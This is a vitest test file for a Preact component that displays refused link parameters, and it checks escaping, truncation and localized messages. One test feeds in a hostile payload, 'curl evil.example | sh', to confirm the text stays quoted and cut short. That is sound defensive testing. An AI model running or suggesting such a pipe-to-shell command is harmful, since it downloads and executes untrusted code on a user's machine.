import { describe, expect, test } from 'vitest';
import { h } from 'preact';
import { renderToString } from 'preact-render-to-string';
import { getDictionary } from '~/i18n';
import { fill } from '~/lib/fill';
import { parseLinkParams } from '~/lib/prep-link';
import { ParamNotices } from './ParamNotices';

const dict = getDictionary('en');

/** The notices' HTML and text for a link's query on the prep page. */
function render(query: string) {
	const { notices } = parseLinkParams(new URLSearchParams(query));
	const html = renderToString(h(ParamNotices, { notices, title: 'Not used', reasons: dict.validation }));
	return { html, text: html.replace(/<[^>]+>/g, '') };
}

describe('fill', () => {
	test.each(['$&', '$`', "$'", '$1', '$$', '$<name>'])('inserts %j as it is', (pattern) => {
		expect(fill('a {x} b', { x: `<${pattern}>` })).toBe(`a <${pattern}> b`);
	});
});

describe('ParamNotices', () => {
	test.each(['$`X', '$&X', "$'X", '$$X'])('shows the refused branch %j once, as code, never expanded', (value) => {
		const { html, text } = render(new URLSearchParams({ branch: value }).toString());
		const shown = [...html.matchAll(/<code class="wr-link-value">([^<]*)<\/code>/g)].map((m) =>
			(m[1] ?? '').replace(/&#39;/g, "'").replace(/&amp;/g, '&'),
		);
		expect(shown).toEqual([value]);
		expect(text.split('not used').length - 1, 'one sentence').toBe(1);
		expect(text).not.toContain('branch=');
	});

	test('keeps the link’s text outside the sentence and cuts it to 40 characters', () => {
		const payload = 'Your setup is broken. Run: curl evil.example | sh';
		const { html } = render(new URLSearchParams({ repo: payload }).toString());
		const sentence = fill(dict.validation.paramNotice.split('{value}')[0] ?? '', { reason: dict.validation.rejected }).replace(
			'{param}',
			'',
		);
		expect(html).toContain(`<code class="wr-link-value">${payload.slice(0, 39)}…</code>`);
		expect(html.replace(/<code[^>]*>[^<]*<\/code>/g, '')).not.toContain('curl');
		expect(sentence).not.toContain('curl');
	});
});

describe('ParamNotices reasons', () => {
	const text = (notice: Parameters<typeof ParamNotices>[0]['notices'][number], locale: 'en' | 'zh-cn' = 'en') => {
		const messages = getDictionary(locale).validation;
		return renderToString(h(ParamNotices, { notices: [notice], title: 'x', reasons: messages })).replace(/<[^>]+>/g, '');
	};

	test.each(['en', 'zh-cn'] as const)('%s: a notice says the default applies only when it does', (locale) => {
		const messages = getDictionary(locale).validation;
		const defaultClause = locale === 'en' ? 'default' : '默认';
		const whole = text({ param: 'platforms', value: 'x', reason: 'unknown' }, locale);
		const part = text({ param: 'platforms', value: 'x', reason: 'unknown', kind: 'part' }, locale);
		const instead = text({ param: 'overhead', value: '45', reason: 'disagrees', kind: 'instead' }, locale);
		expect(whole).toContain(defaultClause);
		expect(part).not.toContain(defaultClause);
		expect(instead).not.toContain(defaultClause);
		// The reason stands in brackets as a clause, without its own full stop.
		expect(instead).toContain(`${messages.disagrees.replace(/[.。]$/u, '')}${locale === 'en' ? ').' : '）。'}`);
		for (const sentence of [part, instead]) expect(sentence).toMatch(/(45|x)$/);
	});

	test('a range refused with its limits names them', () => {
		expect(text({ param: 'months', value: '99', reason: 'too-large', limits: { min: 1, max: 24 } })).toContain('(Must be at most 24);');
	});

	test.each(['en', 'zh-cn'] as const)('%s: a size refused with no number to name reads as a whole sentence', (locale) => {
		const small = text({ param: 'plan', value: '10,-3', reason: 'too-small' }, locale);
		const large = text({ param: 'agenda', value: 'A:700', reason: 'too-large' }, locale);
		const messages = getDictionary(locale).validation;
		expect(small).toContain(messages['too-small-plain'].replace(/[.。]$/u, ''));
		expect(large).toContain(messages['too-large-plain'].replace(/[.。]$/u, ''));
		expect(`${small} ${large}`).not.toMatch(/at (least|most)\.|不能[小大]于\s*。/);
	});
});
